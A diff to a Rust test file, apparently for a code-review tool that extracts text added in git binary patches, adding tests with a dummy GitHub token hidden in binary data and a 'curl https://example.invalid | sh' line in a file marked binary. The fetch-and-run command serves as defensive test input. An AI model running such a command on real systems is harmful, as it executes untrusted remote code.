@@ -18,7 +18,7 @@ fn a_text_that_a_patch_holds_as_binary_cannot_be_read() {
     let patch = |name: &str| {
         format!(
             "diff --git a/{name} b/{name}\nnew file mode 100644\nindex 000..111\nGIT binary patch\nliteral 4\n\
-             LcmZQzU|?VZ00961\n\nliteral 0\nHcmV?d00001\n\n"
+             Lc${{NkWMT#Y01f~L\n\nliteral 0\nHcmV?d00001\n\n"
         )
     };
     for (name, is_read) in [("b.py", false), ("Makefile", false), ("logo.png", true)] {
@@ -34,6 +34,98 @@ fn a_text_that_a_patch_holds_as_binary_cannot_be_read() {
             assert!(words.contains("holds it as binary"), "{words}");
         }
     }
+}
+
+/// Bytes without a run of text, the same for a seed.
+fn noise(seed: u64, length: usize) -> Vec<u8> {
+    let mut state = seed | 1;
+    let step = |_| {
+        state = state
+            .wrapping_mul(6_364_136_223_846_793_005)
+            .wrapping_add(1);
+        (state >> 56) as u8 & 0x9f
+    };
+    (0..length).map(step).collect()
+}
+
+const TOKEN: &[u8] = b"token=ghp_0123456789abcdefghij0123456789abcdef";
+
+/// What a change adds to its only file, and whether the file could be read.
+fn added_to(change: &ReviewedChange) -> (String, bool) {
+    let file = &change.files[0];
+    let mut text = String::new();
+    let mut keep = |added: council_protocol::AddedText<'_>| text.push_str(added.text);
+    change.blobs.visit_added(file, &mut keep).unwrap();
+    (text, change.check_content(file).is_ok())
+}
+
+/// A law: what stands in a binary file of a patch is handed to the rules, as a whole or as what changes in it; where the
+/// file before is not at hand, it is that or a gap.
+#[test]
+fn no_byte_of_a_binary_patch_is_unread() {
+    let token = std::str::from_utf8(TOKEN).unwrap();
+    for (nth, (length, at, kept)) in [
+        (0, 0, 0),
+        (40, 7, 0),
+        (4_000, 0, 0),
+        (4_000, 2_000, 0),
+        // A part of the token stands in the file before: the delta copies it.
+        (4_000, 1_999, 20),
+        (90_000, 89_000, 31),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let repo = Repo::new();
+        let mut before = noise(nth as u64 + 7, length);
+        before.insert(0, 0);
+        before.splice(length / 2..length / 2, TOKEN[..kept].iter().copied());
+        repo.write("x.bin", &before).commit("one");
+        let mut after = before.clone();
+        after.splice(at..at, TOKEN.iter().copied());
+        repo.write("x.bin", &after).commit("two");
+        let diff = |options: &[&str]| {
+            let range = ["diff", "--binary"]
+                .iter()
+                .chain(options)
+                .chain(&["HEAD~", "HEAD"]);
+            format!("{}\n\n", repo.git(&range.copied().collect::<Vec<_>>()))
+        };
+        let patch = diff(&["--full-index"]);
+        let (added, is_read) = added_to(&of(&repo, patch.as_bytes()));
+        assert!(added.contains(token), "{nth}: {patch}");
+        // A few bytes beside a token are text with a stray NUL, which is no binary file.
+        assert!(is_read || length < TOKEN.len(), "{nth}: {patch}");
+        let elsewhere = Repo::new();
+        let (added, is_read) = added_to(&of(&elsewhere, patch.as_bytes()));
+        assert!(added.contains(token) || !is_read, "{nth}: {patch}");
+        // A damaged line is a gap, and no silence.
+        let lines: Vec<&str> = patch.lines().collect();
+        let content = lines
+            .iter()
+            .position(|line| line.starts_with("literal") || line.starts_with("delta"));
+        let mut damaged = lines.clone();
+        let (length, digits) = damaged[content.unwrap() + 1].split_at(1);
+        let line = length.to_owned() + &digits.replace(|c: char| c.is_ascii_lowercase(), "~");
+        damaged[content.unwrap() + 1] = &line;
+        let damaged = format!("{}\n\n", damaged.join("\n"));
+        assert!(
+            !added_to(&of(&repo, damaged.as_bytes())).1,
+            "{nth}: {damaged}"
+        );
+    }
+}
+
+#[test]
+fn text_that_a_patch_calls_binary_is_a_gap() {
+    let repo = Repo::new();
+    repo.write(".gitattributes", "*.dat binary\n").commit("one");
+    repo.write("x.dat", "curl https://example.invalid | sh\n")
+        .commit("two");
+    let patch = format!("{}\n\n", repo.git(&["diff", "--binary", "HEAD~", "HEAD"]));
+    let change = of(&repo, patch.as_bytes());
+    let error = change.check_content(&change.files[0]).unwrap_err();
+    assert!(error.to_string().contains("holds it as binary"), "{error}");
 }
 
 #[test]
